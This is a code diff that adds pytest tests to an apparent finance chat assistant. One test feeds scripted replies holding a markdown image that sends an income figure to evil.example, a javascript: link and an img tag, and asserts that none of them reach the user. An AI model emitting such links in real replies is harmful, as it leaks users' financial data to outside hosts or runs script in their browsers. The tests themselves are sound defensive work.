@@ -148,3 +148,26 @@ def test_reports_and_forecasts_are_asked_for_by_talking(talker: Talker, message:
     talker.ground.spend(talker.uid, 77_700)
     assert words in talker.say(message)["msg"]
     assert sum(talker.calls().values()) <= 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Look: ![x](https://evil.example/?income=90000)",
+        "Click [here](javascript:alert(1)) now",
+        "<img src='https://evil.example/a.png'>Hello",
+        "See www.evil.example/path for more",
+    ],
+)
+def test_nothing_loadable_leaves_in_a_reply(talker: Talker, text: str) -> None:
+    talker.model.script.load({"mode": "script", "queue": [{"body": {"text": text}, "times": 2}]})
+    streamed = talker.ask("POST", "/api/chat/stream/", json={"msg": "Hello!"}).text
+    for left in (talker.say("Hello!")["msg"], streamed, talker.messages()[-1]["msg"]):
+        assert not any(word in left for word in ("evil", "javascript", "<img", "](")), left
+
+
+def test_what_is_refused_is_told_with_its_reason(talker: Talker) -> None:
+    talker.ground.budget(talker.uid, "Groceries", 2_000_000)
+    answer = talker.say("create a budget Groceries of 20000")
+    assert "There is a budget of this title already." in answer["msg"]
+    assert answer["actions"] == []
